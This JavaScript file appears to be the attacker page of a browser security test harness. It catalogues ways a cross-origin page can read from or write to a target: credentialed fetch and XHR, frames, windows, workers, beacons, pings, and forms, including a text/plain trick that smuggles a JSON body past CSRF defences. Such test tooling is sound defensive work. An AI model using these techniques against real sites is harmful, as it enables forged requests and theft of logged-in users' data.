/**
 * The script of an attacker’s page: every way in which a page can send a request. Each way
 * returns the text that scripts of the page could read of the answer, or ''. It throws if the
 * browser rejects the request.
 * @typedef {{url: string, method: string, body: string, token: string, elsewhere: string}} Target
 */

/** The longest time until a window shows its target, in steps of 20 ms. */
const PATIENCE = 150
const BLANK = 5
const pause = () => new Promise((resolve) => setTimeout(resolve, 20))

const ended = (element) =>
  new Promise((resolve) => {
    for (const type of ['load', 'error']) element.addEventListener(type, () => resolve(type))
  })

/** Adds an element to the page and waits until it has loaded or failed. */
async function shown(name, attributes, into = document.body) {
  const element = document.createElement(name)
  const done = ended(element)
  Object.assign(element, attributes)
  into.append(element)
  await done
  return element
}

/** Returns the content of a window, if this page may read it. */
function documentIn(other) {
  try {
    const { href } = other.location
    return href === 'about:blank' ? '' : other.document.documentElement.outerHTML
  } catch {
    return ''
  }
}

async function asked(url, init) {
  const answer = await fetch(url, init)
  const fields = [...answer.headers].map((field) => field.join(': ')).join('\n')
  const text = await answer.text()
  return answer.type === 'opaque' ? text + fields : `${answer.status}\n${fields}\n\n${text}`
}

function byXhr({ url, method }, type, body) {
  return new Promise((resolve, reject) => {
    const xhr = new XMLHttpRequest()
    xhr.open(method, url)
    if (type !== null) xhr.setRequestHeader('Content-Type', type)
    xhr.withCredentials = true
    xhr.onload = () => resolve(`${xhr.status}\n${xhr.getAllResponseHeaders()}\n${xhr.responseText}`)
    xhr.onerror = () => reject(new Error('the browser shows no answer'))
    xhr.send(body)
  })
}

/** Submits a form into a frame of the page. */
async function byForm({ url, method }, enctype, fields) {
  const frame = document.createElement('iframe')
  frame.name = `frame${Math.random()}`
  document.body.append(frame)
  const form = Object.assign(document.createElement('form'), { action: url, method, enctype })
  form.target = frame.name
  for (const [name, value] of fields)
    form.append(Object.assign(document.createElement('input'), { name, value, type: 'hidden' }))
  document.body.append(form)
  const done = ended(frame)
  form.submit()
  await done
  const read = documentIn(frame.contentWindow)
  frame.remove()
  form.remove()
  return read
}

const flat = (body) => Object.entries(JSON.parse(body)).map(([name, value]) => [name, `${value}`])

/**
 * Splits JSON into the name and the value of one field, so that the `text/plain` encoding is
 * JSON.
 */
const smuggled = (body) => [[`${body.slice(0, -1)},"_":"`, '"}']]

async function inWindow(open) {
  const other = open()
  if (other === null) throw new Error('no window was opened')
  try {
    for (let i = 0; i < PATIENCE; i++) {
      try {
        const { href } = other.location
        if (href !== 'about:blank' && other.document.readyState === 'complete')
          return documentIn(other)
      } catch {
        // The window shows a document that this page may not read. If that began at once, it is
        // still loading.
        for (let step = i; step < BLANK; step++) await pause()
        return ''
      }
      await pause()
    }
    throw new Error('the window stayed blank')
  } finally {
    other.close()
  }
}

async function framed(name, attributes) {
  const element = await shown(name, attributes)
  const read = element.contentDocument === null ? '' : documentIn(element.contentWindow)
  element.remove()
  return read
}

async function loaded(name, attributes, into) {
  const element = await shown(name, attributes, into)
  const rules = element.sheet ? [...element.sheet.cssRules].map(({ cssText }) => cssText) : []
  const size = element.naturalWidth ? `an image of ${element.naturalWidth}` : ''
  element.remove()
  return rules.join('\n') + size
}

const script = (text) => URL.createObjectURL(new Blob([text], { type: 'text/javascript' }))

function inWorker(url, options) {
  return new Promise((resolve, reject) => {
    const worker = new Worker(url, options)
    worker.onmessage = ({ data }) => resolve(data)
    worker.onerror = () => reject(new Error('the worker did not run'))
  })
}

/** @type {Record<string, (target: Target) => Promise<string>>} */
const reading = {
  fetch: ({ url }) => asked(url, {}),
  'fetch, no-cors': ({ url }) => asked(url, { mode: 'no-cors' }),
  'fetch with credentials': ({ url }) => asked(url, { credentials: 'include' }),
  'fetch, no-cors, with credentials': ({ url }) =>
    asked(url, { mode: 'no-cors', credentials: 'include' }),
  'fetch with a header of its own': ({ url }) => asked(url, { headers: { 'X-Attack': '1' } }),
  'fetch with a token, no-cors': ({ url, token }) =>
    asked(url, { mode: 'no-cors', headers: { Authorization: `Bearer ${token}` } }),
  'fetch as HEAD': ({ url }) => asked(url, { method: 'HEAD', mode: 'no-cors' }),
  'fetch without a referrer': ({ url }) =>
    asked(url, { referrerPolicy: 'no-referrer', cache: 'reload' }),
  'fetch that follows no redirect': ({ url }) =>
    asked(url, { redirect: 'manual', keepalive: true }),
  XMLHttpRequest: (target) => byXhr(target, null, null),
  'an image': ({ url }) => loaded('img', { src: url }),
  'an image, crossorigin': ({ url }) => loaded('img', { crossOrigin: 'anonymous', src: url }),
  'a script': ({ url }) => loaded('script', { src: url }),
  'a module': ({ url }) => loaded('script', { type: 'module', src: url }),
  'import()': async ({ url }) => JSON.stringify(await import(url)),
  'a stylesheet': ({ url }) => loaded('link', { rel: 'stylesheet', href: url }, document.head),
  '@import': async ({ url }) => {
    const style = await shown('style', { textContent: `@import "${url}"` }, document.head)
    let read = ''
    try {
      read = [...style.sheet.cssRules[0].styleSheet.cssRules].map((rule) => rule.cssText).join()
    } catch {
      // This page may not read it, or it does not exist.
    }
    style.remove()
    return read
  },
  'a font': async ({ url }) => {
    await new FontFace('stolen', `url("${url}")`).load()
    return 'a font'
  },
  'a preload': ({ url }) => loaded('link', { rel: 'preload', as: 'fetch', href: url }),
  'a prefetch': async ({ url }) => {
    document.head.append(
      Object.assign(document.createElement('link'), { rel: 'prefetch', href: url }),
    )
    return ''
  },
  'a sound': ({ url }) =>
    new Promise((resolve) => {
      const sound = new Audio(url)
      sound.onerror = () => resolve('')
      sound.onloadedmetadata = () => resolve(`a sound of ${sound.duration}`)
    }),
  EventSource: ({ url }) =>
    new Promise((resolve) => {
      const source = new EventSource(url, { withCredentials: true })
      const done = (read) => {
        source.close()
        resolve(read)
      }
      source.onmessage = ({ data }) => done(data)
      source.onerror = () => done('')
    }),
  WebSocket: ({ url }) =>
    new Promise((resolve) => {
      const socket = new WebSocket(url.replace('http', 'ws'))
      socket.onopen = () => resolve('it opened')
      socket.onmessage = ({ data }) => resolve(data)
      socket.onclose = ({ reason }) => resolve(reason)
    }),
  WebTransport: async ({ url }) => {
    await new WebTransport(url.replace('http', 'https')).ready
    return 'it opened'
  },
  'a frame': ({ url }) => framed('iframe', { src: url }),
  'an object': ({ url }) => framed('object', { data: url }),
  'an embedded page': ({ url }) => framed('embed', { src: url }),
  'a window': ({ url }) => inWindow(() => open(url)),
  'a form that asks': ({ url }) =>
    byForm({ url, method: 'GET' }, '', [...new URL(url).searchParams]),
  'a worker': ({ url }) => inWorker(url),
  'a worker that imports': ({ url }) =>
    inWorker(script(`try { importScripts(${JSON.stringify(url)}) } catch {} postMessage('')`)),
  'a worker that fetches': ({ url }) =>
    inWorker(
      script(`fetch(${JSON.stringify(url)}).then(async (it) => it.status + await it.text(), () => '')
        .then((read) => postMessage(read))`),
    ),
  'a service worker': async ({ url }) => {
    await navigator.serviceWorker.register(url)
    return 'it was registered'
  },
}

/** @type {Record<string, (target: Target) => Promise<string>>} */
const writing = {
  'fetch, JSON': ({ url, method, body }) =>
    asked(url, { method, body, headers: { 'Content-Type': 'application/json' } }),
  'fetch, JSON, with a token': ({ url, method, body, token }) =>
    asked(url, {
      method,
      body,
      headers: { 'Content-Type': 'application/json', Authorization: `Bearer ${token}` },
    }),
  'fetch, text': ({ url, method, body }) => asked(url, { method, body, mode: 'cors' }),
  'fetch, no-cors, text': ({ url, body }) =>
    asked(url, { method: 'POST', body, mode: 'no-cors', credentials: 'include' }),
  'fetch, no-cors, a form': ({ url, body }) =>
    asked(url, { method: 'POST', body: new URLSearchParams(flat(body)), mode: 'no-cors' }),
  'fetch, no-cors, parts': ({ url, body }) => {
    const parts = new FormData()
    for (const [name, value] of flat(body)) parts.set(name, value)
    return asked(url, { method: 'POST', body: parts, mode: 'no-cors' })
  },
  'fetch, no-cors, JSON as a blob': ({ url, body }) =>
    asked(url, {
      method: 'POST',
      body: new Blob([body], { type: 'application/json' }),
      mode: 'no-cors',
    }),
  'fetch that outlives the page': ({ url, body }) =>
    asked(url, { method: 'POST', body, mode: 'no-cors', keepalive: true }),
  'fetch as PATCH': ({ url, body }) => asked(url, { method: 'PATCH', body }),
  'fetch as DELETE': ({ url }) => asked(url, { method: 'DELETE' }),
  'fetch as TRACE': ({ url }) => asked(url, { method: 'TRACE' }),
  'XMLHttpRequest, text': (target) => byXhr(target, 'text/plain', target.body),
  'XMLHttpRequest, JSON': (target) => byXhr(target, 'application/json', target.body),
  'a beacon': async ({ url, body }) => {
    if (!navigator.sendBeacon(url, body)) throw new Error('no beacon was sent')
    return ''
  },
  'a beacon of JSON': async ({ url, body }) => {
    if (!navigator.sendBeacon(url, new Blob([body], { type: 'application/json' })))
      throw new Error('no beacon was sent')
    return ''
  },
  'a ping': async ({ url, elsewhere }) => {
    const frame = document.createElement('iframe')
    frame.name = 'pinged'
    document.body.append(frame)
    const link = Object.assign(document.createElement('a'), { href: elsewhere, ping: url })
    link.target = 'pinged'
    document.body.append(link)
    const done = ended(frame)
    link.click()
    await done
    frame.remove()
    return ''
  },
  'a form': ({ url, body }) =>
    byForm({ url, method: 'POST' }, 'application/x-www-form-urlencoded', flat(body)),
  'a form, JSON as text': ({ url, body }) =>
    byForm({ url, method: 'POST' }, 'text/plain', smuggled(body)),
  'a form in parts': ({ url, body }) =>
    byForm({ url, method: 'POST' }, 'multipart/form-data', flat(body)),
  'a form in a window': ({ url, body }) =>
    inWindow(() => {
      const other = open('about:blank', 'sent')
      const form = Object.assign(document.createElement('form'), { action: url, target: 'sent' })
      form.method = 'POST'
      for (const [name, value] of flat(body))
        form.append(Object.assign(document.createElement('input'), { name, value }))
      document.body.append(form)
      form.submit()
      form.remove()
      return other
    }),
}

/** Tries one way; returns the text that could be read, or the browser’s error. */
globalThis.attack = async (kind, way, target) => {
  try {
    return { read: await { reading, writing }[kind][way](target), refusal: null }
  } catch (error) {
    return { read: '', refusal: String(error) }
  }
}

globalThis.ways = { reading: Object.keys(reading), writing: Object.keys(writing) }

/** Returns the sum of the sizes and statuses in the browser’s own resource timings of answers. */
globalThis.noted = (ports) =>
  performance
    .getEntriesByType('resource')
    .filter(({ name }) => ports.includes(new URL(name).port))
    .reduce(
      (sum, it) =>
        sum + it.transferSize + it.encodedBodySize + it.decodedBodySize + it.responseStatus,
      0,
    )
